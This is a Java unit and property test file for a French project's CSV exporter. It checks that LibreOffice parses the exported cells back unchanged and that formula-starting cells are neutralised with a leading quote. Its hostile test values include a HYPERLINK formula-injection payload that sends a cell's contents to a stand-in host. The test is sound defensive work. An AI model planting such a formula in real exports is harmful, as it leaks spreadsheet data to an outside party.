package fr.conciergeriesolidaire.functions.reporting;

import static org.assertj.core.api.Assertions.assertThat;

import fr.conciergeriesolidaire.functions.testing.HostileValues;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/**
 * The exports as a French spreadsheet reads them: the file is parsed back the way LibreOffice Calc imports a CSV
 * (UTF-8, separator {@code ;}, text delimiter {@code "}, doubled quotes, line breaks inside quoted cells) and each cell
 * must come back as written; a cell that would start a formula comes back as text, led by {@code '}.
 */
class SpreadsheetCsvTest {
    /** LibreOffice's import with the options a French user leaves as they are. */
    private static final CSVFormat LIBREOFFICE = CSVFormat.Builder.create()
            .setDelimiter(';')
            .setQuote('"')
            .setRecordSeparator("\r\n")
            .setIgnoreEmptyLines(false)
            .get();

    @Test
    void givenHostileAndOrdinaryCellsThenTheFileParsesBackToTheSameCellsAndNoFormulaCanRun() throws IOException {
        List<String> hostile = List.of(
                "=HYPERLINK(\"http://evil.example/?\"&A1;\"Cliquez\")",
                "+33 6 12 34 56 78",
                "-2+3",
                "@SUM(A1:A9)",
                "\t=1+1",
                "\r=1+1",
                "Dupont; Fils & Cie",
                "Le \"Bon\" Coin",
                "deux\nlignes",
                "retour\r\nchariot",
                "  espaces autour  ",
                "Crème brûlée, œuf, 🎉",
                "",
                "12,50",
                "2026-03-02");

        String file = new SpreadsheetCsv()
                .row(List.of("Colonne", "Autre"))
                .row(hostile)
                .text();

        byte[] bytes = file.getBytes(StandardCharsets.UTF_8);
        assertThat(bytes).startsWith((byte) 0xEF, (byte) 0xBB, (byte) 0xBF);
        assertThat(file).endsWith("\r\n");
        List<CSVRecord> records = parse(file);
        assertThat(records).hasSize(2);
        assertThat(records.get(0).toList()).containsExactly("Colonne", "Autre");
        List<String> expected = new ArrayList<>();
        for (String cell : hostile) {
            boolean formula = !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0;
            expected.add(formula ? "'" + cell : cell);
        }
        assertThat(records.get(1).toList()).containsExactlyElementsOf(expected);
        assertThat(records.get(1).toList())
                .as("no cell a spreadsheet would evaluate")
                .noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
    }

    @Property
    void givenAnyTextACompanyOrAServiceMayHaveThenItComesBackAsItWasOrLedByAQuote(@ForAll("hostile") String value)
            throws IOException {
        String file = new SpreadsheetCsv().row(List.of(value, "fin")).text();

        List<String> cells = parse(file).get(0).toList();

        assertThat(cells).as("«%s»", value).hasSize(2);
        boolean formula = !value.isEmpty() && "=+-@\t\r".indexOf(value.charAt(0)) >= 0;
        assertThat(cells.get(0)).isEqualTo(formula ? "'" + value : value);
        assertThat(cells.get(1)).isEqualTo("fin");
    }

    @Provide
    Arbitrary<String> hostile() {
        return HostileValues.strings();
    }

    @Test
    void givenAmountsThenTheyAreWrittenWithADecimalCommaAndNoThousandsSeparator() {
        assertThat(ExportFiles.euros(0)).isEqualTo("0,00");
        assertThat(ExportFiles.euros(5)).isEqualTo("0,05");
        assertThat(ExportFiles.euros(123_456_78)).isEqualTo("123456,78");
    }

    private static List<CSVRecord> parse(String file) throws IOException {
        assertThat(file.charAt(0)).isEqualTo(SpreadsheetCsv.BYTE_ORDER_MARK);
        // LibreOffice reads the byte order mark as the encoding's, not as the first cell's first character.
        try (var parser = LIBREOFFICE.parse(new StringReader(file.substring(1)))) {
            return parser.getRecords();
        }
    }
}
